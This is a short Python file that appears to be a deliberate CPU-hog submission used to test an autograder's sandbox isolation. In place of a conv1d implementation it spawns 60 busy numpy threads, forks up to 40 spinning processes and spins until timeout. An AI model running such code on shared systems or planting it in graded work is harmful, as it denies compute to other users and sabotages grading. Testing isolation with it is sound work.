"""CPU denial of service against the rest of the batch (stage conv1d): every call starts 60 threads of BLAS-free
numpy work (which releases the GIL) and forks processes up to the pids cap, all spinning until the call's timeout;
the submission burns its whole 120 s budget. Measured: the wall time and compute time honest learners graded in
the same `batch --jobs 2` need, against a batch of them alone, and the hog's host CPU use (cgroup cpu cap: 1 CPU).
Held if the honest learners' grades are unchanged and the hog stays within one CPU."""
import os
import threading

import numpy as np


def _spin():
    a = np.random.rand(256, 256)
    while True:
        np.sin(a, out=a)


def run_conv1d(x, weight, bias):
    for _ in range(60):
        threading.Thread(target=_spin, daemon=True).start()
    for _ in range(40):
        try:
            if os.fork() == 0:
                _spin()
        except OSError:
            break
    _spin()
